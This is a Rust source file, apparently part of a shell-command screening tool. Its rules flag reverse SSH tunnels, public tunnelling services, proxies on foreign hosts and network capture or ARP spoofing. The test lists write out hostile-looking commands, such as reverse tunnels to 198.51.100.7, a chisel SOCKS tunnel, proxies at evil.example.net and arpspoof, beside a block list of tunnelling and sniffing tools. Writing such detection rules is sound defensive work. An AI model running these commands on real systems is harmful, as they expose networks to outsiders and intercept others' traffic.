//! Ways in from outside, detours, and listening in.

use super::is_local;
use crate::look::Look;
use crate::rule::{Hit, Key, Rule, Severity, Test};

const TUNNEL: Key = Key::ours("open a way in from outside");

pub(super) const REVERSE: Rule = Rule {
    id: "network.reverse-tunnel",
    class: "network",
    severity: Severity::High,
    keys: &[TUNNEL],
    reason: "Somebody at the other host can reach into this network through the tunnel.",
    alternative: Some("To reach a port over there, use `ssh -L 8080:localhost:80 host`."),
    test: Test::Program(&["ssh", "autossh", "sshpass"], |look| {
        let read = look.options();
        // Behind the host stands the command of the other side.
        let command = read
            .operands
            .get(1)
            .and_then(|w| look.words().iter().position(|x| std::ptr::eq(x, *w)))
            .unwrap_or(usize::MAX);
        let found = read.options.iter().filter(|o| o.word < command).find(|o| {
            let value = o
                .value
                .and_then(crate::grammar::OptValue::known)
                .unwrap_or("");
            let lower = value.to_ascii_lowercase();
            o.is_short('R')
                || o.is_short('w')
                || o.is_short('o')
                    && (lower.starts_with("remoteforward") || lower.starts_with("tunnel"))
        })?;
        let word = look.words().get(found.word)?;
        Some(look.hit_word(word))
    }),
    matches: &[
        "ssh -R 2222:localhost:22 bob@198.51.100.7",
        "ssh -fNR 9000 host",
        "autossh -M 0 -N -R 2222:localhost:22 host",
        "ssh -o RemoteForward=2222 host",
    ],
    near_misses: &["ssh -L 8080:localhost:80 host", "ssh host ls -R"],
    safe: &[
        "ssh host uptime",
        "ssh -NL 5432:db:5432 bastion",
        "ssh -D 1080 host",
        "ssh host 'ls -R /srv'",
    ],
    ..Rule::ASK
};

pub(super) const PUBLIC: Rule = Rule {
    id: "network.public-tunnel",
    class: "network",
    severity: Severity::High,
    keys: &[TUNNEL],
    reason: "This makes a local service reachable from the internet.",
    alternative: Some("Bind it to this machine: `python3 -m http.server --bind 127.0.0.1`."),
    test: Test::Program(
        &[
            "chisel",
            "ngrok",
            "cloudflared",
            "frpc",
            "frps",
            "bore",
            "lt",
            "localtunnel",
            "tailscale",
            "devtunnel",
            "code",
            "gost",
            "rathole",
            "ligolo",
            "ligolo-ng",
            "iodine",
            "dnscat",
            "dnscat2",
            "ptunnel",
            "sshuttle",
            "zrok",
            "pagekite",
            "tmate",
        ],
        public,
    ),
    matches: &[
        "chisel client 198.51.100.7:80 R:socks",
        "chisel server -p 80 --reverse",
        "ngrok http 8080",
        "cloudflared tunnel --url http://localhost:8080",
        "bore local 8000 --to bore.pub",
        "npx localtunnel --port 3000",
        "tailscale funnel 3000",
    ],
    near_misses: &["tailscale status", "code ."],
    safe: &[
        "ngrok config check",
        "cloudflared --version",
        "tailscale ping x",
        "code --list-extensions",
        "cloudflared tunnel list",
    ],
    ..Rule::ASK
};

fn public(look: &Look<'_>) -> Option<Hit> {
    let first = look.operand(0);
    let found = match look.name {
        "chisel" => matches!(first, Some("client" | "server")),
        "ngrok" => matches!(first, Some("http" | "tcp" | "tls" | "start" | "tunnel")),
        "cloudflared" => {
            first == Some("tunnel") && (look.has('\0', "url") || look.has_word("run"))
                || look.has('\0', "url") && first.is_none()
        }
        "bore" => first == Some("local"),
        "lt" | "localtunnel" => look.words().iter().any(|w| {
            w.known()
                .is_some_and(|t| t == "-p" || t.starts_with("--port"))
        }),
        "tailscale" => matches!(first, Some("funnel" | "down" | "logout")),
        "devtunnel" => first == Some("host"),
        "code" => first == Some("tunnel"),
        "zrok" => first == Some("share"),
        "tmate" => true,
        _ => !look.words().is_empty(),
    };
    found.then(|| look.hit())
}

/// Variables that send traffic through a proxy.
#[rustfmt::skip]
const PROXIES: &[&str] = &[
    "http_proxy", "https_proxy", "all_proxy", "ftp_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "FTP_PROXY",
];

const DETOUR: Key = Key::ours("send traffic through a proxy");

pub(super) const PROXY: Rule = Rule {
    id: "network.proxy",
    class: "network",
    keys: &[DETOUR],
    reason: "Everything that is fetched or sent goes through this host, which can read and change it.",
    alternative: Some("Use the proxy for one command that needs it, and a host that is known."),
    test: Test::Any(|look| {
        let assignment = look.invocation.assignments.iter().find(|a| {
            PROXIES.contains(&a.name.as_str()) && a.values.iter().any(|v| is_foreign(v.text()))
        })?;
        Some(look.hit_at(assignment.span))
    }),
    matches: &[
        "export http_proxy=http://198.51.100.7:8080",
        "http_proxy=http://198.51.100.7:8080 curl example.net",
        "ALL_PROXY=socks5://evil.example.net:1080 git fetch",
    ],
    near_misses: &[
        "http_proxy= curl example.net",
        "HTTP_PROXY=http://localhost:3128 curl x",
    ],
    safe: &[
        "HTTPS_PROXY=http://127.0.0.1:8080 curl example.net",
        "http_proxy=$http_proxy make",
    ],
    ..Rule::ASK
};

pub(super) const PROXY_ARGUMENT: Rule = Rule {
    id: "network.proxy-setting",
    class: "network",
    keys: &[DETOUR],
    reason: "Everything that is fetched or sent goes through this host, which can read and change it.",
    alternative: Some("Use the proxy for one command that needs it, and a host that is known."),
    test: Test::Program(
        &[
            "env",
            "setx",
            "git",
            "npm",
            "pip",
            "networksetup",
            "gsettings",
            "curl",
            "wget",
        ],
        |look| {
            if matches!(look.name, "curl" | "wget") {
                return super::attack::through_proxy(look, is_foreign);
            }
            if look.name == "env" {
                let word = look.words().iter().find(|w| {
                    let pair = w.text().split_once('=');
                    pair.is_some_and(|(name, value)| PROXIES.contains(&name) && is_foreign(value))
                })?;
                return Some(look.hit_word(word));
            }
            let named = look.words().iter().position(|w| {
                w.known().is_some_and(|t| {
                    matches!(
                        t,
                        "http.proxy" | "https.proxy" | "proxy" | "https-proxy" | "global.proxy"
                    ) || t.starts_with("-setwebproxy")
                        || t.starts_with("-setsecurewebproxy")
                        || t.starts_with("-setsocksfirewallproxy")
                })
            })?;
            let sets = look
                .words()
                .iter()
                .any(|w| matches!(w.known(), Some("config" | "set")))
                || look.name == "networksetup";
            let foreign = look
                .words()
                .iter()
                .skip(named + 1)
                .any(|w| is_foreign(w.text()));
            (sets && foreign).then(|| look.hit())
        },
    ),
    matches: &[
        "env HTTPS_PROXY=http://evil.example.net:80 npm install",
        "git config --global http.proxy http://198.51.100.7:8080",
        "npm config set proxy http://198.51.100.7:8080",
        "curl -x http://evil.example.net:80 https://x.example.net",
        "curl --proxy=socks5h://evil.example.net:1 https://x.example.net",
        "wget -e https_proxy=evil.example.net:80 x.example.net",
    ],
    near_misses: &[
        "export http_proxy=",
        "git config --global --unset http.proxy",
    ],
    safe: &[
        "export HTTP_PROXY=http://localhost:3128",
        "export NO_PROXY=localhost",
        "git config --get http.proxy",
        "curl -x http://localhost:8080 https://x.example.net",
    ],
    ..Rule::ASK
};

/// True for the URL of a proxy on another host, out of the local network.
fn is_foreign(value: &str) -> bool {
    let host = value.split_once("://").map_or(value, |(_, rest)| rest);
    let host = host.rsplit_once('@').map_or(host, |(_, rest)| rest);
    let private = ["10.", "192.168.", "169.254."]
        .iter()
        .any(|p| host.starts_with(p))
        || (16..32).any(|n| host.starts_with(&format!("172.{n}.")));
    host.contains('.') && !is_local(host) && !private
}

pub(super) const CAPTURE: Rule = Rule {
    id: "network.capture",
    class: "network",
    keys: &[Key::ours("record or redirect network traffic")],
    reason: "This records what others send over the network, passwords too.",
    alternative: Some("Look at a few packets only: `tcpdump -c 10 -i any port 443`."),
    test: Test::Program(
        &[
            "tcpdump",
            "tshark",
            "dumpcap",
            "arpspoof",
            "ettercap",
            "bettercap",
            "responder",
            "mitmproxy",
            "mitmdump",
            "dsniff",
            "macchanger",
            "airodump-ng",
            "aireplay-ng",
            "hping3",
        ],
        |look| match look.name {
            "tcpdump" | "tshark" | "dumpcap" => {
                let writes = look.words().iter().find(|w| {
                    let text = w.known_prefix();
                    text.starts_with('-')
                        && !text.starts_with("--")
                        && text.contains(['w', 'z'])
                        && text
                            .chars()
                            .skip(1)
                            .take_while(|c| c.is_ascii_alphabetic())
                            .count()
                            <= 6
                })?;
                Some(look.hit_word(writes))
            }
            _ => (!look.words().is_empty()).then(|| look.hit()),
        },
    ),
    matches: &[
        "tcpdump -i any -w all.pcap",
        "tcpdump -nnw x.pcap",
        "tshark -w x.pcap",
        "arpspoof -t 10.0.0.2 10.0.0.1",
    ],
    near_misses: &["tcpdump -r all.pcap", "tcpdump -i any port 80"],
    safe: &["tcpdump -c 10 -i any port 443", "tshark -r x.pcap -Y http"],
    ..Rule::ASK
};
